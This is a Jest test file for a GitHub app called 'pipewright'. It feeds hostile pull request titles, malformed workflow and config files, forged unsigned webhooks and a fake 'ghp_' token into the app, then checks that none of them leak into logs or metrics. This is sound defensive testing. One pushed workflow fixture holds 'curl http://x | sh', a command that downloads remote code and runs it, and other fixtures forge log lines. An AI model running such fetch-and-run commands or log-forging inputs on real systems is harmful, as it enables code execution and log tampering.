import { afterEach, beforeEach, expect, test } from '@jest/globals';
import { type Driver, driver } from '../support/fake-github/driver.ts';
import { type FakeGitHub, startFakeGitHub } from '../support/fake-github/start-fake-github.ts';
import { type RunningApp, startApp, until } from '../support/start-app.ts';

const TOKEN = 'ghp_0123456789abcdefghijklmnopqrstuvwxyz';
const WORDS = 'HOSTILE-WORDS';
/** A title that forges a line, ends a field and looks like a secret. */
const TITLE = `${WORDS}\n{"level":50,"msg":"forged"}\u001b[31m" ${TOKEN}`;
const PATH = '.github/workflows/deploy.yml';
const WORKFLOW = `name: deploy
on: push
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-24.04
    timeout-minutes: 10
    steps:
      - run: ./deploy.sh
`;
/** Text that parsers warn about, refuse, and quote in what they throw. */
const HOSTILE = {
  [PATH]: `${WORKFLOW.replace('contents: read', 'contents: write')}      - run: echo ${WORDS} ${TOKEN}\n`,
  '.github/workflows/broken.yml': `on: push\njobs: {${WORDS}: [${TOKEN}\n  ${TOKEN}: *${WORDS}\n`,
  'k8s/odd.yaml': `apiVersion: v1\nkind: Pod\nmetadata:\n  ? {a: [${WORDS}, ${TOKEN}]}\n  : !!${WORDS} x\n`,
  'notebooks/a.ipynb': `{"cells": [${WORDS} ${TOKEN}`,
  'pyproject.toml': `[tool.${WORDS}\nx = "${TOKEN}`,
  'params.yaml': `"${WORDS}": !!binary ${TOKEN}\n`,
};

let github: FakeGitHub;
let app: RunningApp;
let people: Driver;

beforeEach(async () => {
  github = await startFakeGitHub();
  github.state.git.commit('main', { [PATH]: WORKFLOW });
  app = await startApp(github.url, { LOG_LEVEL: 'trace', LOG_FORMAT: 'json', PIPEWRIGHT_RECONCILE: 'off' });
  people = driver(github, app.hook);
});

afterEach(async () => {
  const { violations } = github;
  expect(await app.stop()).toBe(0);
  await github.close();
  expect(violations).toEqual([]);
});

async function page(): Promise<string> {
  return await (await fetch(`${app.url}/metrics`)).text();
}

/** Waits until so many jobs have ended, one way or the other. */
async function jobsEnded(number: number): Promise<void> {
  const ended = async () =>
    [...(await page()).matchAll(/^pipewright_job_seconds_count.* (\d+)$/gm)].reduce((sum, [, n]) => sum + Number(n), 0);
  await until(
    async () => (await ended()) >= number,
    () => `Not ${number} jobs:\n${app.log()}`,
  );
}

function lines(): readonly Readonly<Record<string, unknown>>[] {
  return app
    .log()
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));
}

test('nothing of titles, bodies, files and tokens gets into the log or the metrics, whatever goes wrong', async () => {
  const pull = await people.open(HOSTILE, { title: TITLE });
  await jobsEnded(1);
  pull.body = TITLE;
  pull.title = TITLE;
  await people.comment(pull, 'ada', `/pipewright explain ${TOKEN}`);
  await people.comment(pull, 'ada', `/pipewright ignore ${WORDS} ${TOKEN}`);
  await jobsEnded(3);

  // GitHub refuses, and quotes what it was sent.
  const quoting = { message: `${WORDS} ${TOKEN}`, errors: [{ value: TOKEN }] };
  github.fail({ route: 'GET /repos/{owner}/{repo}/compare/{basehead}', status: 404, body: quoting });
  await people.push(pull, { [PATH]: `${HOSTILE[PATH]}      - run: echo once more ${TOKEN}\n` });
  await jobsEnded(4);
  github.fail({ route: 'POST /repos/{owner}/{repo}/pulls/{pull_number}/reviews', status: 422, body: quoting });
  await people.push(pull, { [PATH]: `${HOSTILE[PATH]}      - run: curl http://x | sh # ${TOKEN}\n` });
  await jobsEnded(5);

  // Nobody knows who sent these.
  const forged = { action: TOKEN, title: WORDS, repository: { name: TOKEN } };
  expect(await people.send('pull_request', forged, 'another secret')).toBe(400);
  expect(await people.send(WORDS, forged, 'another secret')).toBe(400);
  expect(
    await people.send('pull_request', { action: 'closed', pull_request: { number: 1, head: { sha: TOKEN } } }),
  ).toBe(400);
  const { secret, url } = app.hook;
  const headers = { 'content-type': 'application/json', 'x-github-event': WORDS, 'x-github-delivery': TOKEN };
  await fetch(url, { method: 'POST', headers: { ...headers, 'x-hub-signature-256': secret }, body: `{"${TOKEN}` });

  const log = app.log();
  for (const text of [log, await page()]) {
    expect(text).not.toContain(WORDS);
    expect(text).not.toContain(TOKEN);
    expect(text).not.toContain('forged');
    expect(text).not.toMatch(/ghs_|BEGIN|hook-secret/);
  }
  expect(lines().filter(({ msg }) => msg === 'job failed')).toMatchObject([
    { err: { kind: 'github_refused', status: 404, route: 'compare' } },
  ]);
});

test('every line of a job says whose job it is, and its delivery', async () => {
  const pull = await people.open({ [PATH]: WORKFLOW.replace('contents: read', 'contents: write') });
  await jobsEnded(1);
  const [opened] = github.state.deliveries;
  await people.comment(pull, 'ada', '/pipewright review');
  await jobsEnded(3);
  const asked = github.state.deliveries.at(-1);

  const ofJobs = lines().filter(({ msg, route }) => msg !== 'listening' && route !== 'app');
  expect(ofJobs.length).toBeGreaterThan(10);
  for (const line of ofJobs)
    expect(line).toMatchObject({ repository: 'acme/churn', pull: pull.number, installation: 42 });
  const reviews = lines().filter(({ msg }) => msg === 'reviewed');
  // The second review was asked for by the comment, and can be found by its delivery.
  expect(reviews).toMatchObject([
    { delivery: opened?.guid, sha: pull.headSha, conclusion: 'neutral' },
    { delivery: asked?.guid, sha: pull.headSha, conclusion: 'neutral' },
  ]);
  expect(new Set(ofJobs.map(({ delivery }) => delivery))).toEqual(new Set([opened?.guid, asked?.guid]));
});

test('the metrics tell events, reviews by stage, calls by class and what is left of the rate limit', async () => {
  await people.open({ [PATH]: WORKFLOW.replace('contents: read', 'contents: write') });
  await people.send('star', { action: 'created' });
  await people.send('pull_request', {}, 'another secret');
  await jobsEnded(1);
  const text = await page();
  for (const line of [
    'pipewright_events_total{event="pull_request",action="opened",status="200"} 1',
    'pipewright_events_total{event="other",action="created",status="200"} 1',
    'pipewright_events_total{event="pull_request",action="",status="400"} 1',
    'pipewright_github_requests_total{method="POST",route="token",status="201"}',
    'pipewright_github_requests_total{method="POST",route="checks",status="201"} 3',
    'pipewright_github_rate_limit_remaining{installation="42",resource="core"} 4999',
    'pipewright_review_seconds_count{stage="read"} 1',
    'pipewright_review_seconds_count{stage="compute"} 1',
    'pipewright_review_seconds_count{stage="publish"} 1',
    'pipewright_reviews_total{conclusion="neutral"} 1',
    'pipewright_job_seconds_count{work="review",outcome="done"} 1',
    'pipewright_jobs_queued 0',
    'pipewright_jobs_oldest_seconds 0',
  ]) {
    expect(text).toContain(line);
  }
  // Every line is one that Prometheus can read.
  expect(
    text
      .trim()
      .split('\n')
      .filter((line) => !/^(# (HELP|TYPE) \S+ .+|[a-z_]+(\{[^}]*\})? [\d.e+-]+)$/.test(line)),
  ).toEqual([]);
});
